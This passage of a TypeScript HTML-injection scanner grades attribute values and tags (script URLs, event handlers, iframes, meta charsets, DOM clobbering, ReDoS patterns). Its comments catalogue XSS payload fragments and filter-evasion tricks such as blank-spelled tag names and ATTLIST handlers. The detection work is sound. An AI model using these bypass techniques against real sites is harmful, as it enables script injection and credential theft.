const FORM_LISTED = new Set(['input', 'button', 'select', 'textarea', 'fieldset', 'output', 'object', 'img']);

function clobbers(tag: string, attribute: string, value: string): boolean {
  if (attribute === 'name' && DOCUMENT_NAMED.has(tag) && DOCUMENT_CLOBBER.has(value)) return true;
  return FORM_LISTED.has(tag) && FORM_CLOBBER.has(value);
}

/**
 * `<meta http-equiv="Content-Type" content="text/html; charset=utf-8">`, `<meta charset="utf-8">`,
 * `<meta http-equiv="X-UA-Compatible" content="IE=edge">`: what mail clients and e-mail templates put
 * at the head of an HTML body. Declaring UTF-8 or a single-byte charset that keeps ASCII as ASCII
 * changes nothing an attacker can use. Everything else stays high: `refresh` (navigation),
 * `set-cookie`, `content-security-policy` (can switch off the page's own scripts), `default-style`,
 * an IE document mode below edge (revives `expression()`), and charsets that re-read bytes
 * (UTF-7, ISO-2022-*, HZ, Shift_JIS and other multibyte sets whose lead bytes swallow a quote).
 * Reads only attribute values the scanner has already cut; at most 48 characters each.
 */
function harmlessMeta(httpEquiv: string, charset: string, content: string): boolean {
  const equiv = httpEquiv.trim().toLowerCase();
  if (equiv === 'x-ua-compatible') {
    if (charset !== '') return false;
    const c = content.trim().toLowerCase();
    return c === 'ie=edge' || c === 'ie=edge,chrome=1' || c === 'ie=edge, chrome=1';
  }
  if (equiv !== '' && equiv !== 'content-type') return false;
  if (charset !== '' && !plainCharset(charset)) return false;
  if (equiv === '') return true;
  // `text/html; charset=utf-8` (or no charset, which leaves the page's own).
  const c = content.length > 48 ? '' : content.trim().toLowerCase();
  if (!c.startsWith('text/html')) return false;
  let k = 9;
  while (k < c.length && (c.charCodeAt(k) === 32 || c.charCodeAt(k) === 59)) k++;
  if (k === c.length) return true;
  if (!c.startsWith('charset=', k)) return false;
  return plainCharset(c.slice(k + 8));
}

/** UTF-8, US-ASCII, ISO-8859-n, Windows-125n: ASCII bytes mean ASCII and no byte swallows the next. */
function plainCharset(v: string): boolean {
  let c = v.trim().toLowerCase();
  if (c.length > 2 && (c.charCodeAt(0) === 34 || c.charCodeAt(0) === 39) && c.charCodeAt(c.length - 1) === c.charCodeAt(0)) {
    c = c.slice(1, -1).trim();
  }
  if (c === 'utf-8' || c === 'utf8' || c === 'us-ascii' || c === 'ascii' || c === 'latin1') return true;
  const digitsAfter = (prefix: string): boolean => {
    if (!c.startsWith(prefix) || c.length === prefix.length || c.length > prefix.length + 4) return false;
    for (let k = prefix.length; k < c.length; k++) if (!isDigit(c.charCodeAt(k))) return false;
    return true;
  };
  return digitsAfter('iso-8859-') || digitsAfter('windows-125') || digitsAfter('cp125');
}

function playerEmbed(tag: HtmlTag): boolean {
  let src = '';
  for (const a of tag.attributes) {
    if (a.name === 'srcdoc') return false;
    if (a.name === 'src') src = a.value;
  }
  if (!src.startsWith('https://')) return false;
  const slash = src.indexOf('/', 8);
  if (slash === -1) return false;
  const host = src.slice(8, slash);
  for (const [h, path] of PLAYER_EMBEDS) if (host === h && src.startsWith(path, slash)) return true;
  return false;
}

/** `{handleClick}`, `{this.onSave}`: a JSX binding of a handler to a name (no call, no operator). */
function jsxBinding(v: string): boolean {
  const n = v.length;
  if (n < 3 || n > 64 || v.charCodeAt(0) !== 123 || v.charCodeAt(n - 1) !== 125) return false;
  if (!isIdentChar(v.charCodeAt(1)) || isDigit(v.charCodeAt(1))) return false;
  for (let k = 1; k < n - 1; k++) {
    const c = v.charCodeAt(k);
    if (!(isIdentChar(c) || (c === 46 && isIdentChar(v.charCodeAt(k + 1))))) return false;
  }
  return true;
}

/**
 * A handler value that opens a block with its first character and holds no `}` that could close it:
 * `{()`, `{e`, what a browser keeps of a pasted JSX arrow handler (an unquoted value ends at the
 * first blank). The handler's body is then a SyntaxError and the function is never created, so
 * nothing in it runs, whatever strings, comments or regexps follow the `{`: a block needs a `}`
 * punctuator, and there is none. Attribute values are entity-decoded before they are compiled
 * (`{alert(1)&#125;`, `&rcub;`), and values here are raw, so any `&` disqualifies. A `}` anywhere
 * (`{alert(1)}`, `{alert(1)//}`) leaves the value to the ordinary rule. One pass, stops early.
 */
function unclosedBlock(v: string): boolean {
  if (v.length === 0 || v.charCodeAt(0) !== 123 /* { */) return false;
  for (let k = 1; k < v.length; k++) {
    const c = v.charCodeAt(k);
    if (c === 125 /* } */ || c === 38 /* & */) return false;
  }
  return true;
}

/**
 * unclosedBlock for an unquoted attribute value starting at `p` (after blanks) in the raw text: it
 * runs to the next HTML blank or `>`. Looks at most 64 characters, so a run of `on*={on*={…` costs
 * linear work; a longer value is not judged unclosed (the ordinary rule decides).
 */
function unclosedBlockAt(s: string, p: number): boolean {
  const n = s.length;
  while (p < n && isHtmlSpace(s.charCodeAt(p))) p++;
  if (p >= n || s.charCodeAt(p) !== 123 /* { */) return false;
  const stop = Math.min(n, p + 64);
  for (let k = p + 1; k < stop; k++) {
    const c = s.charCodeAt(k);
    if (isHtmlSpace(c) || c === 62 /* > */) return true;
    if (c === 125 /* } */ || c === 38 /* & */) return false;
  }
  return stop === n;
}

/**
 * What the tag scan has seen before the current tag: the context elements the value opened itself
 * (at most CONTEXT_ELEMENTS.size names), and where the previous tag ended (-1 after an unterminated
 * one).
 */
interface TagState {
  /** Created on the first context element: most values open none. */
  opened: Set<string> | undefined;
  prevEnd: number;
  /**
   * [start, end) of attribute values checkTag judged inert script URLs (inertScriptUrl), ascending:
   * scanSchemes, which reads the whole value without knowing about tags, skips schemes inside them.
   */
  inert: number[] | undefined;
  /** A JSON-LD block the value opened (jsonLdBlock) is still open: its `</script>` ends it. */
  ldOpen: boolean;
}

/** checkTag, then what later tags need to know about this one. */
function visitTag(tag: HtmlTag, input: string, best: Best, players: number[], st: TagState): boolean {
  // (The scan passes over end tags of fewer than CONTEXT_MIN letters and digits closed at once by
  // `>`: this branch would only have set prevEnd, read where a quote and `>` precede a start tag;
  // such a tag ends in a letter or digit, and the tag it would have followed never ends at the next
  // tag's start, since the skipped one lies between.)
  if (tag.closing && tag.name.length < CONTEXT_MIN) {
    // checkTag judges an end tag only by its local name (no longer than the name): `script` or a
    // context element, none shorter than CONTEXT_MIN (`script` is longer). For `</a>`, `</b>`, the
    // call decided nothing (1 MB of `</a>x`: a call per five characters).
    st.prevEnd = tag.terminated ? tag.end : -1;
    return false;
  }
  const stop = checkTag(tag, input, best, players, st);
  if (!tag.closing) {
    const name = localName(tag.name);
    // (Names shorter than every context element's, `a`, `b`, `i`, `p` in tag runs, skip the Set.)
    if (name.length >= CONTEXT_MIN && CONTEXT_ELEMENTS.has(name)) (st.opened ??= new Set()).add(name);
  }
  st.prevEnd = tag.terminated ? tag.end : -1;
  return stop;
}

function checkTag(tag: HtmlTag, input: string, best: Best, players?: number[], st?: TagState): boolean {
  const name = localName(tag.name);
  if (tag.closing) {
    if (name === 'script' && st?.ldOpen === true) {
      // The end of the value's own JSON-LD block, whose JSON has `=` and `;` in its URLs and text.
      st.ldOpen = false;
    } else if (name === 'script') {
      // Code before `</script>` is a statement finished inside an inline script, then the breakout.
      let code = false;
      for (let k = Math.max(0, tag.start - 256); k < tag.start; k++) {
        const c = input.charCodeAt(k);
        if (c === 40 || c === 59 || c === 61) code = true;
      }
      if (code) return best.add('context-breakout', 'high', 'Script code followed by </script>, which ends an inline script.');
    }
    // An end tag for an element the value opened itself is a fragment's own markup (a whole
    // document in an HTML e-mail field); only one it did not open leaves the surrounding context.
    // Not for the raw-text and RCDATA elements: placed inside one, the value's own `<textarea>` is
    // text, and its first `</textarea>` ends the page's.
    if (name.length >= CONTEXT_MIN && CONTEXT_ELEMENTS.has(name) && (RCDATA_ELEMENTS.has(name) || st?.opened?.has(name) !== true)) {
      return best.add('context-breakout', 'medium', `A closing </${name}> tag that ends the surrounding context.`);
    }
    return false;
  }
  if (SCRIPT_TAGS.has(name)) {
    if (!jsonLdBlock(tag)) return best.add('script-tag', 'high', 'A <script> tag.');
    // Its attributes are still judged below, and its content by every later scan.
    best.add('script-tag', 'medium', 'A <script type="application/ld+json"> data block.');
    if (st !== undefined) st.ldOpen = true;
  }
  if (name === 'iframe' && tag.terminated && tag.attributes.length === 0) {
    // `<iframe>` alone, as prose names it ("the <iframe> tag is blocked by CSP"): with no src,
    // srcdoc or handler it loads about:blank and runs nothing, and a browser reads what follows
    // as raw text until `</iframe>` (every later tag is still judged here). Any attribute, `/src=`,
    // an unterminated `<iframe` that the page's next `>` would finish, stays high. Listed with the
    // players so the tag-name scan's `<iframe` check accepts it.
    players?.push(tag.start);
    best.add('embed-tag', 'medium', 'An <iframe> tag with no attributes, which loads nothing.');
  } else if (EMBED_TAGS.has(name)) {
    if (name !== 'iframe' || !playerEmbed(tag)) return best.add('embed-tag', 'high', `An <${name}> tag that loads active content.`);
    players?.push(tag.start);
    // Rich-text editors embed video and map players this way; the attributes are still judged
    // below (an event handler or a script URL on the same tag is high).
    best.add('embed-tag', 'medium', 'An <iframe> that embeds a video or map player.');
  }
  // IE's `<import implementation=…>` behaviour binding with the spaces squeezed out
  // (`<importimplementation=`): the tag name swallowed the attribute.
  if (name.startsWith('import') && name.includes('implementation')) {
    return best.add('embed-tag', 'high', 'An <import implementation> behaviour binding.');
  }
  let hasHref = false;
  let hasSrc = false;
  let rel = '';
  let httpEquiv = '';
  let metaCharset = '';
  let metaContent = '';
  let inputType = '';
  let animates: boolean | undefined;
  for (const a of tag.attributes) {
    const an = a.name;
    if (an.length > 2 && an.charCodeAt(0) === 111 && an.charCodeAt(1) === 110 /* on */) {
      // `onload!#$%…` in a fuzzed tag: the leading letters still name the event.
      let e = 2;
      while (e < an.length && an.charCodeAt(e) >= 97 && an.charCodeAt(e) <= 122) e++;
      if (a.hasValue && jsxBinding(a.value)) {
        // JSX `onClick={handleClick}`: to a browser a block naming a function, which calls nothing.
        best.add('event-handler', 'medium', 'An on* attribute bound to a function name (JSX).');
        continue;
      }
      if (a.hasValue && unclosedBlock(a.value)) {
        // JSX `onClick={() => setCount(c + 1)}` as the browser cuts it at the first blank: `{()`.
        best.add('event-handler', 'medium', 'An on* attribute whose handler opens a block it never closes (JSX).');
        continue;
      }
      if (a.hasValue || EVENTS.has(an.slice(2, e))) {
        return best.add('event-handler', 'high', `An ${an.length <= 24 ? an : 'on…'} event handler attribute in a tag.`);
      }
      best.add('event-handler', 'medium', 'An on* attribute without a value in a tag.');
    }
    if (a.hasValue && a.value.length > 0) {
      const v = a.value;
      const strict = schemeAt(v, 0, true);
      const sch = strict ?? schemeAt(v, 0, true, true);
      if (sch !== undefined && (sch.kind !== 'data' || activeDataType(v, sch.after))) {
        if (inertScriptUrl(v, sch.kind, sch.after, name, an)) {
          best.add('script-url', 'low', 'A script URL that runs nothing (javascript:void(0)), or an SVG data URL loaded as an image.');
          if (st !== undefined && a.at >= 0) (st.inert ??= []).push(a.at, a.at + v.length);
          continue;
        }
        // In a URL attribute the scheme alone runs; elsewhere (alt, title, a disguised scheme with
        // spaces or NULs) code must follow, so `alt="JavaScript: The Good Parts"` passes.
        if ((strict !== undefined && (URL_ATTRIBUTES.has(an) || sch.kind === 'data')) || codeFollows(v, sch.after)) {
          return best.add('script-url', 'high', `${schemeReason(sch.kind)} in the ${an.length <= 16 ? an : ''} attribute.`);
        }
      }
      // Netscape JavaScript entities: `&{alert(1)};`.
      const amp = v.indexOf('&{');
      if (amp !== -1 && v.indexOf('}', amp) !== -1) {
        return best.add('script-url', 'high', 'A JavaScript entity &{…} in an attribute value.');
      }
      // SMIL `<set attributeName="onmouseover" to="…">` writes an event handler.
      if (an === 'attributename' && (v.charCodeAt(0) | 0x20) === 111 && (v.charCodeAt(1) | 0x20) === 110) {
        return best.add('event-handler', 'high', 'An SVG animation that sets an event handler attribute.');
      }
      // (Read once per tag: 64 `attributeName`s do not re-read a long `values` 64 times.)
      if (an === 'attributename' && animates === undefined && LINK_ATTRIBUTES.has(v.trim().toLowerCase()) && (animates = animatesToDocument(tag))) {
        return best.add('svg-animation', 'high', 'An SVG animation that rewrites a link or resource URL.');
      }
      if (URL_ATTRIBUTES.has(an) && obfuscatedIpHost(v)) {
        return best.add('obfuscated-host', 'high', 'A URL whose host is an IP address in integer, hex or octal form.');
      }
      if (an === 'style') {
        if (cssExpressionAnywhere(v)) return best.add('css-expression', 'high', 'A CSS expression( in a style attribute.');
        if (cssObfuscated(v)) {
          return best.add('css-obfuscation', 'high', 'A style attribute with CSS escapes that hide a property name or spell markup.');
        }
        const injected = styleInjection(v);
        if (injected !== undefined) return best.add('css-injection', 'high', injected);
        if (best.wants('medium') && cssBlockBreakout(v)) {
          best.add('css-injection', 'medium', 'A style attribute with a } that closes the declaration block.');
        }
      }
      // `xsi:schemaLocation="ns http://host/x.xsd"` makes a validating XML parser fetch a schema.
      // Ordinary in XML documents (Maven, SOAP), so only `low`.
      if (an.endsWith('schemalocation') && best.wants('low') && v.includes('//')) {
        // A schema hosted on another site than its namespace (`http://a.example/ns` fetched from
        // `b.example`) is what out-of-band probes send; real documents mostly host both together,
        // but library and GIS standards do not always (purl.org / dublincore.org): medium.
        if (best.wants('medium') && foreignSchemaLocation(v)) {
          best.add('external-load', 'medium', 'An XML schema location on another site than its namespace.');
        } else {
          best.add('external-load', 'low', 'An XML schema location that makes a validating parser fetch a URL.');
        }
      }
    }
    if (ACTIVE_ATTRIBUTES.has(an)) return best.add('active-attribute', 'high', `A ${an} attribute that binds content or behaviour.`);
    if (an === 'pattern' && name === 'input' && nestedQuantifier(a.value)) {
      return best.add('redos-pattern', 'high', 'An <input pattern> with a nested quantifier, which can hang the browser that validates it.');
    }
    if ((an === 'name' || an === 'id') && a.value.length >= 3 && a.value.length <= 24 && clobbers(name, an, a.value)) {
      return best.add('dom-clobbering', 'high', 'An element named after a document or DOM member, which shadows it for the page\'s scripts.');
    }
    if (an === 'src') hasSrc = true;
    if (an === 'href' || an === 'xlink:href') hasHref = true;
    else if (an === 'rel') rel = a.value.toLowerCase();
    else if (an === 'type') inputType = a.value;
    else if (an === 'http-equiv') httpEquiv = a.value;
    else if (an === 'charset') metaCharset = a.value || ' ';
    else if (an === 'content') metaContent = a.value;
  }
  // A password field in a value that was meant to be text is a login form drawn on the page:
  // credential phishing that needs no script. Sign-up and search forms have no password field.
  if (name === 'input' && inputType.trim().toLowerCase() === 'password') {
    return best.add('form-injection', 'high', 'An <input type=password> field, which can harvest credentials.');
  }
  if (name === 'base' && hasHref) return best.add('base-href', 'high', 'A <base href> that re-roots every relative URL.');
  if (name === 'meta' && (httpEquiv !== '' || metaCharset !== '')) {
    if (!harmlessMeta(httpEquiv, metaCharset, metaContent)) return best.add('meta-refresh', 'high', 'A <meta http-equiv> or <meta charset> tag.');
    // The head of every Apple Mail, Thunderbird and Outlook HTML body, and of e-mail templates.
    best.add('html-tag', 'low', 'A <meta> tag that declares UTF-8 or a Latin charset, or IE edge mode.');
  }
  if (name === 'style') return best.add('style-tag', 'high', 'A <style> tag (CSS injection).');
  // An IE data island loading a document (`<xml src=…>`); a plain `<xml>` root (WeChat bodies) passes.
  if (name === 'xml' && hasSrc) return best.add('embed-tag', 'high', 'An <xml src> data island that loads a document.');
  if (name === 'include' && hasHref) return best.add('embed-tag', 'high', 'An XInclude element that loads a document.');
  if (name === 'link' && hasHref) {
    if (rel.includes('import') || rel.includes('stylesheet')) {
      return best.add('link-import', 'high', 'A <link> that imports a document or stylesheet.');
    }
    return best.add('html-tag', 'medium', 'A <link> tag with an href.');
  }
  if (name === 'svg' || name === 'math' || name === 'form' || name === 'isindex' || name === 'import') {
    return best.add('html-tag', 'medium', `An <${name}> tag.`);
  }
  // Raw-text elements swallow the rest of the page as text (defacement, mXSS parser differentials).
  if (RAW_TEXT_TAGS.has(name)) return best.add('raw-text-tag', 'high', `A <${name}> tag that turns the rest of the page into text.`);
  if (name === 'noscript') return best.add('html-tag', 'medium', 'A <noscript> tag, whose content parsers read differently.');
  // A quote and `>` right before the tag closed an attribute first: `"><img …>`. Not when they are
  // the end of the tag before (`<td align="center"><b>`), which is the value's own markup.
  const b1 = input.charCodeAt(tag.start - 1);
  const b2 = input.charCodeAt(tag.start - 2);
  if (b1 === 62 && isQuote(b2) && st?.prevEnd !== tag.start) return best.add('tag-breakout', 'medium', 'A quote and > that close an attribute, then a tag.');
  if (elementLike(tag.name)) best.add('html-tag', 'low', 'An HTML tag.');
  return false;
}

/**
 * `<script`, `<iframe`… anywhere, even where the tag scanner saw an attribute value or a comment:
 * `<img src="x` `<script>…` and `<t:set to="<SCRIPT>…">` rely on another parser's view of the quotes.
 */
function scanDangerousTagNames(s: string, best: Best, iframes: number[], from: number): boolean {
  const n = s.length;
  // Where the last `<!ATTLIST` look-ahead stopped: later ones start there, so the scan stays linear.
  let attlistDone = 0;
  let i = from;
  while (i !== -1) {
    // A `<` before another `<` starts no name, instruction or spelling (each needs a letter, a blank,
    // `?` or `!` next): a run of them is skipped in one tight loop (`<<<<`: ~6 µs/KB less).
    // Reads past the end are NaN without calling charCodeAt out of bounds, here and below: a call
    // site that has read past the end stays slower in V8's optimized code (with the other guards in
    // this file, 1 MB of `<a <a`: 22 -> 17 µs/KB, of `((((` in the pre-pass: 14 -> 8.5).
    while (i + 1 < n && s.charCodeAt(i + 1) === 60) i++;
    // Only from the pre-pass's first yes does the scan start: the same test at each later `<` skips
    // those where nothing below can happen (a short name, `<:{`, `<a x`), a few loads instead of the
    // walk below (~25 ns per `<`).
    if (!ltMayStartName(s, i)) {
      i = nextOf(s, 60, '<', i + 1);
      continue;
    }
    const j = i + 1;
    // IE processing instructions that bind behaviours or stylesheets. (Server-side includes,
    // `<!--#exec`, are the `ssi` class's: one finding per directive.)
    const pi = j < n ? s.charCodeAt(j) : -1;
    // Everything below starts at j with `?`/`!`, a blank or NUL, or a name character (the spelling
    // at a letter): after `</`, `<=`, `<"` or at the end there is nothing to read (1 MB of `</a>x`).
    if (!(isAlnum(pi) || isBlankOrNul(pi) || pi === 63 || pi === 33 || pi === 58 || pi === 45 || pi === 95)) {
      i = nextOf(s, 60, '<', i + 1);
      continue;
    }
    // (`?import`, `?xml…` and `!attlist` have an `i`, `x` or `a` next, in either case: any other
    // character, as in runs of `?<` or `<!`, sliced and lower-cased 16 characters per `<` for
    // nothing, ~45 µs/KB at 64 KB. A non-ASCII character lower-cases to none of the three alone:
    // `İ` gives `i` and a combining dot, which no name has next.)
    // (And one more: `?im`, `?xm`, `!at`. `<!a` runs sliced a head per `<` for nothing, ~13 µs/KB
    // of ~23 at 64 KB. No non-ASCII character lower-cases to `m` or `t`, and `| 0x20` keeps one at or
    // above 128.)
    const p2 = j + 1 < n ? s.charCodeAt(j + 1) | 0x20 : -1;
    const p3 = j + 2 < n ? s.charCodeAt(j + 2) | 0x20 : -1;
    if (pi === 63 ? (p2 === 105 || p2 === 120) && p3 === 109 : pi === 33 && p2 === 97 && p3 === 116) {
      const head = s.slice(j, j + 16).toLowerCase();
      if (head.startsWith('?import') || head.startsWith('?xml-stylesheet') || head.startsWith('?xml:namespace')) {
        return best.add('embed-tag', 'high', 'An XML processing instruction that imports behaviour or a stylesheet.');
      }
      if (head.startsWith('!attlist')) {
        const from = Math.max(i + 9, attlistDone);
        attlistDone = Math.min(n, i + 512);
        if (attlistHandler(s, from, attlistDone)) {
          return best.add('event-handler', 'high', 'A DTD attribute list that gives elements a default event handler.');
        }
      }
    }
    // After `<?` or `<!` no name is read below (`?` and `!` are no name characters, nor blanks) and
    // nothing is spelled (that needs a letter at j): on to the next `<`.
    if (pi === 63 || pi === 33) {
      i = nextOf(s, 60, '<', i + 1);
      continue;
    }
    // The element name, possibly after blanks (`< script`) and a namespace prefix followed by blanks
    // (`< x: script`): legacy parsers and blank-squeezing filters read those as the element.
    let b = j;
    while (b < n && b - j < 8 && isBlankOrNul(s.charCodeAt(b))) b++;
    let spaced = b > j;
    let nameStart = b;
    let k = readNameChars(s, b);
    if (k > b && s.charCodeAt(k - 1) === 58 /* : */ && k < n && isBlankOrNul(s.charCodeAt(k))) {
      let c = k;
      while (c < n && c - k < 8 && isBlankOrNul(s.charCodeAt(c))) c++;
      nameStart = c;
      k = readNameChars(s, c);
      spaced = true;
    }
    // Only names as long as one of the tags judged below are sliced (after a namespace prefix):
    // runs of `<a ` or `<b>` allocated a lower-cased copy per `<` for nothing.
    let local = k;
    while (local > nameStart && s.charCodeAt(local - 1) !== 58) local--;
    if (k > nameStart && k - local >= TAG_NAME_MIN && k - local <= TAG_NAME_MAX) {
      const end = k < n ? s.charCodeAt(k) : -1;
      if (k >= n || isHtmlSpace(end) || end === 47 || end === 62 || end === 0 || end === 60) {
        const name = localName(s.slice(nameStart, k).toLowerCase());
        // With blanks only `script` and `iframe`, followed by what ends a tag or starts an attribute:
        // `i < frame && …` and `n < script && …` are comparisons.
        if ((!spaced && SCRIPT_TAGS.has(name) && !jsonLdAt(s, k)) || (spaced && (name === 'script' || name === 'iframe') && tagTail(s, k))) {
          return best.add(name === 'script' ? 'script-tag' : 'embed-tag', 'high', spaced ? `A <${name}> tag with blanks before its name.` : 'A <script> tag.');
        }
        // `<iframe` is judged once the tag scanner has read it: a player embed (checkTag) is medium.
        if (!spaced && name === 'iframe') iframes.push(i);
        else if (!spaced && EMBED_TAGS.has(name)) return best.add('embed-tag', 'high', `An <${name}> tag that loads active content.`);
      }
    }
    // `<s c r i p t`, `<f o r m`: a tag name spelled one letter at a time with blanks between, for a
    // filter that squeezes blanks out. No text spells an element name that way.
    const spelled = spelledName(s, b);
    if (spelled !== '') {
      return best.add('tag-obfuscation', 'high', `A <${spelled}> tag name spelled with blanks between its letters.`);
    }
    // (No `<` at i + 1: the run loop above stopped before one.)
    i = nextOf(s, 60, '<', i + 1);
  }
  return false;
}

/**
 * Can scanDangerousTagNames do anything at the `<` at `i`? False only where it provably does nothing
 * there: the next character is another `<` (the run's last one is judged on its own), the end, or
 * none of `?`, `!`, a blank or NUL, or a name character; or a name character starts a name shorter
 * than every judged one (TAG_NAME_MIN), with no namespace colon in it and no single letter spelling
 * (`x y z`) after it. The pre-pass asks this at each `<` until the first yes, and the scan starts
 * there: its earlier `<`s change nothing (no finding, no `<iframe`, no ATTLIST bound). Cost: 1 to 6
 * loads per `<`, in a pass that has loaded the `<` already; the scan's own walk was ~25 ns per `<`
 * (1 MB of `<a x="`, `</a>x`).
 */
function ltMayStartName(s: string, i: number): boolean {
  const n = s.length;
  const j = i + 1;
  if (j >= n) return false;
  const c = s.charCodeAt(j);
  if (c === 63 || c === 33 || isBlankOrNul(c)) return true;
  if (!isNameChar(c)) return false;
  let k = j + 1;
  while (k < n && k - j < TAG_NAME_MIN && isNameChar(s.charCodeAt(k))) k++;
  if (k - j >= TAG_NAME_MIN) return true;
  // A short name that ends with `:` is a namespace prefix only before a blank (`< x: script`): before
  // anything else its local name is empty, and it spells nothing (it has a name character at j + 1, or
  // is `:` alone, no letter). `<:{`, `<-:`, `<:\:` were read in full at every `<` (~29 µs/KB at 64 KB).
  if (s.charCodeAt(k - 1) === 58) return k < n && isBlankOrNul(s.charCodeAt(k));
  return k === j + 1 && k + 2 < n && isBlankOrNul(s.charCodeAt(k)) && isAsciiLetter(s.charCodeAt(k + 1)) && isBlankOrNul(s.charCodeAt(k + 2));
}

/** readNameChars' characters: letters, digits, `:`, `-`, `_`. */
function isNameChar(c: number): boolean {
  return isAlnum(c) || c === 58 || c === 45 || c === 95;
}

/** Shortest and longest local name scanDangerousTagNames compares (every name it reads is ASCII). */
const TAG_NAMES_JUDGED = [...SCRIPT_TAGS, ...EMBED_TAGS, 'script', 'iframe'];
const TAG_NAME_MIN = Math.min(...TAG_NAMES_JUDGED.map((x) => x.length));
const TAG_NAME_MAX = Math.max(...TAG_NAMES_JUDGED.map((x) => x.length));

/** Blanks a tag-name obfuscation may put after `<` or between letters: HTML spaces and NUL. */
function isBlankOrNul(c: number): boolean {
  return isHtmlSpace(c) || c === 0;
}

/** Element-name characters from `p` (letters, digits, `:`, `-`, `_`), at most 24: the index after them. */
function readNameChars(s: string, p: number): number {
  let k = p;
  while (k < s.length && k - p < 24) {
    const c = s.charCodeAt(k);
    if (!(isAlnum(c) || c === 58 || c === 45 || c === 95)) break;
    k++;
  }
  return k;
}

/** Element names an obfuscated spelling (`<f o r m`) is reported for: active or page-changing tags. */
const SPELLED_TAGS = new Set([
  'script', 'iframe', 'frame', 'form', 'style', 'object', 'embed', 'applet', 'base', 'body', 'meta', 'image',
  'video', 'audio', 'link', 'marquee', 'param', 'animate', 'bindings',
]);

/**
 * At `p`: single letters separated by one blank each (`s c r i p t`), at least four, spelling a
 * SPELLED_TAGS name; returns the name or ''. Reads at most 20 characters.
 */
function spelledName(s: string, p: number): string {
  // Three characters needed (a letter at p + 2 too): shorter tails are read as NaN would be, without
  // reading past the end (see scanDangerousTagNames).
  const n = s.length;
  if (p + 2 >= n) return '';
  if (!isBlankOrNul(s.charCodeAt(p + 1)) || !isAsciiLetter(s.charCodeAt(p)) || !isAsciiLetter(s.charCodeAt(p + 2))) return '';
  let word = '';
  let q = p;
  // Each letter stands alone (no letter after it); a following word (`src=` in `<f o r m src=x>`)
  // ends the spelling. The letters are counted first and the word built only when there are four or
  // more: `<a x="` spelled `ax` per `<`, a string built for nothing (same letters, same stops).
  // Four letters need blanks at p + 3 and p + 5 and letters at p + 4 and p + 6: five loads rule out
  // most shapes (`<a x="`) before the count.
  if (p + 6 >= n || !isBlankOrNul(s.charCodeAt(p + 3)) || !isAsciiLetter(s.charCodeAt(p + 4)) || !isBlankOrNul(s.charCodeAt(p + 5)) || !isAsciiLetter(s.charCodeAt(p + 6))) {
    return '';
  }
  let letters = 0;
  while (letters < 10 && q < n && isAsciiLetter(s.charCodeAt(q)) && !(q + 1 < n && isAsciiLetter(s.charCodeAt(q + 1)))) {
    letters++;
    if (q + 1 >= n || !isBlankOrNul(s.charCodeAt(q + 1))) break;
    q += 2;
  }
  if (letters < 4) return '';
  q = p;
  while (word.length < 10 && q < n && isAsciiLetter(s.charCodeAt(q)) && !(q + 1 < n && isAsciiLetter(s.charCodeAt(q + 1)))) {
    word += String.fromCharCode(lower(s.charCodeAt(q)));
    if (q + 1 >= n || !isBlankOrNul(s.charCodeAt(q + 1))) break;
    q += 2;
  }
  return word.length >= 4 && SPELLED_TAGS.has(word) ? word : '';
}

/**
 * After an element name written with blanks (`< script`), what makes it a tag rather than a
 * comparison (`n < script && …`): `>`, `/`, the end of the value, or an attribute (`name=`).
 */
function tagTail(s: string, k: number): boolean {
  const n = s.length;
  while (k < n && isBlankOrNul(s.charCodeAt(k))) {
    if (++k >= n) return true;
  }
  if (k >= n) return true;
  const c = s.charCodeAt(k);
  if (c === 62 || c === 47) return true;
  const e = readNameChars(s, k);
  if (e === k) return false;
  let q = e;
  while (q < n && q - e < 8 && isBlankOrNul(s.charCodeAt(q))) q++;
  return s.charCodeAt(q) === 61;
}

/**
 * Inside `<!ATTLIST …` between `from` and `to`: an attribute named `on` + letters, declared with a
 * default value, which the parser then adds to every matching element (`<!ATTLIST img onerror CDATA
 * "…">`).
 */
function attlistHandler(s: string, from: number, to: number): boolean {
  for (let q = from; q + 3 < to; q++) {
    if ((s.charCodeAt(q) | 0x20) !== 111 || (s.charCodeAt(q + 1) | 0x20) !== 110 || !isHtmlSpace(s.charCodeAt(q - 1))) continue;
    let e = q + 2;
    while (e < to && isAsciiLetter(s.charCodeAt(e))) e++;
    if (e - q >= 4 && e < to && isHtmlSpace(s.charCodeAt(e))) return true;
    q = e - 1;
  }
  return false;
}

// ---------------------------------------------------------------------------------------------------
// Markup that changes what the page shows or where it loads from, without script
// ---------------------------------------------------------------------------------------------------

/**
 * A regular expression with a quantified group that itself holds a variable quantifier (`(a+)+`,
 * `((a+.)a)+`, `(x*){2,}`): catastrophic backtracking. As an injected `<input pattern>` with a value
 * that almost matches, the browser's constraint validation hangs the page (client-side ReDoS). Form
 * builders' patterns (`[0-9]{3}-[0-9]{4}`, `[^@]+@[^@]+`, `(\d{3}) \d{4}`) quantify no group that
 * varies. One pass over at most 1024 characters; groups deeper than 30 are counted, not tracked.
 */
function nestedQuantifier(v: string): boolean {
  const n = Math.min(v.length, 1024);
  let depth = 0;
  let over = 0;
  // Bit d: the group open at depth d (0: the top level) holds a variable quantifier.
  let varies = 0;
  for (let i = 0; i < n; i++) {
    const c = v.charCodeAt(i);
    if (c === 92 /* \ */) {
      i++;
    } else if (c === 91 /* [ */) {
      // A character class: `[(+]` holds no group or quantifier. `]` right after `[` or `[^` is a member.
      let j = i + 1;
      if (v.charCodeAt(j) === 94) j++;
      if (v.charCodeAt(j) === 93) j++;
      while (j < n && v.charCodeAt(j) !== 93) j += v.charCodeAt(j) === 92 ? 2 : 1;
      i = j;
    } else if (c === 40 /* ( */) {
      if (depth >= 30) over++;
      else varies &= ~(1 << ++depth);
    } else if (c === 41 /* ) */) {
      if (over > 0) over--;
      else if (depth > 0) {
        const had = (varies >>> depth) & 1;
        depth--;
        if (had === 1) {
          if (variableQuantifierAt(v, i + 1)) return true;
          varies |= 1 << depth;
        }
      }
    } else if (variableQuantifierAt(v, i)) {
      varies |= 1 << depth;
    }
  }
  return false;
}

/** `+`, `*` or a `{n,}` / `{n,m}` repeat starts at `p` (`{3}` repeats a fixed count). At most 12 reads. */
function variableQuantifierAt(v: string, p: number): boolean {
  const c = v.charCodeAt(p);
  if (c === 43 || c === 42) return true;
  if (c !== 123) return false;
  for (let k = p + 1; k < v.length && k - p < 12; k++) {
    const d = v.charCodeAt(k);
    if (d === 44) return true;
    if (d < 48 || d > 57) return false;
  }
  return false;
}

/**
 * PHP code after an open tag: `<?php` (then no name character), `<?=` or `<? ` followed by a
 * variable, or a name called (`<? echo(`) or given a string or variable (`<? echo '…'`). A value
 * meant to be text that holds it is aimed at a template or file the server will run (or, echoed
